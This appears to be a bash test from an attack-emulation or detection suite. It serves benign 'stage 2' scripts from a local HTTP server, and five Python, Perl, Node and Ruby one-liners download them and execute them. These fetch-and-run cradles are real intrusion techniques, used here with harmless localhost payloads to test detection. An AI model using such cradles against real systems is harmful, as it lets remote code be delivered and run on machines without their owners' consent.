#!/bin/bash
# desc: download cradles: python, perl, node and ruby one-liners fetch a script over HTTP and run it (or make it executable)
# mitre: T1105, T1059.006
# expect: interpreter_download_and_run
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

mkdir www
echo 'print("stage 2")' >www/s.py
echo 'print "stage 2\n";' >www/s.pl
echo 'console.log("stage 2")' >www/s.js
printf '#!/bin/sh\necho stage 2\n' >www/s.sh
port=$(free_port)
/usr/bin/python3 -m http.server --bind 127.0.0.1 --directory www "$port" >/dev/null 2>&1 &
srv=$!
undo "kill $srv"
wait_listen 127.0.0.1 "$port"
u=http://127.0.0.1:$port

/usr/bin/python3 -c "import urllib.request as r; exec(r.urlopen('$u/s.py').read())"
perl -MHTTP::Tiny -e "eval(HTTP::Tiny->new->get('$u/s.pl')->{content})"
node -e "require('http').get('$u/s.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })"
ruby -ropen-uri -e "system(URI.open('$u/s.sh').read)"
/usr/bin/python3 -c "import urllib.request as r, os; r.urlretrieve('$u/s.sh', 'stage2'); os.chmod('stage2', 0o755); os.system('./stage2')"
